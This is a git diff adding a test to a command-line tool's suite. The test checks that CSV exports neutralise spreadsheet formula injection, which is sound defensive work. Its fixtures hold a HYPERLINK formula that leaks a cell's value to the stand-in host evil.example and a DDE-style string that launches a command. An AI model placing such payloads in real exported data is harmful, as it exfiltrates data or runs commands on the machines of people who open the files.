@@ -6,6 +6,7 @@ import path from "node:path";
 import { fileURLToPath } from "node:url";
 import { promisify } from "node:util";
 import { expect, it } from "vitest";
+import { closeDatabase, openDatabase } from "../../src/db/client.ts";
 
 const run = promisify(execFile);
 const root = fileURLToPath(new URL("../..", import.meta.url));
@@ -44,6 +45,35 @@ it("fills a demo database, shows its digests, exports a team and backs it up", a
   const result = await cli(["backup", backup], { DATABASE_URL: databaseUrl });
   expect(result.stdout).toContain("Backed up");
   expect(existsSync(backup)).toBe(true);
+}, 60_000);
+
+it("exports text that starts like a formula as text, so a spreadsheet does not run it", async () => {
+  const dir = mkdtempSync(path.join(tmpdir(), "goodcall-cli-"));
+  const databaseUrl = `file:${path.join(dir, "demo.db")}`;
+  await cli(["demo", "--database", databaseUrl], {});
+  const db = await openDatabase(databaseUrl);
+  const formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Open the voucher")';
+  try {
+    await db.goodCall.create({
+      data: {
+        teamId: "CDEMOSUPPORT",
+        authorId: "UATTACKER",
+        what: formula,
+        why: "@SUM(1+1)*cmd|' /C calc'!A0",
+      },
+    });
+  } finally {
+    await closeDatabase(db);
+  }
+  const csv = await cli(["export", "--team", "CDEMOSUPPORT"], { DATABASE_URL: databaseUrl });
+  expect(csv.stdout).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Open the voucher"")"`);
+  expect(csv.stdout).toContain(`'@SUM(1+1)`);
+  // No cell of any row starts with a formula sign, quoted or not.
+  expect(csv.stdout).not.toMatch(/(?:^|,)"?[=+\-@\t\r]/mu);
+  const json = await cli(["export", "--team", "CDEMOSUPPORT", "--format", "json"], {
+    DATABASE_URL: databaseUrl,
+  });
+  expect((JSON.parse(json.stdout) as Array<{ text: string }>).map((row) => row.text)).toContain(formula);
 }, 60_000);
 
 it("explains bad arguments instead of failing obscurely", async () => {
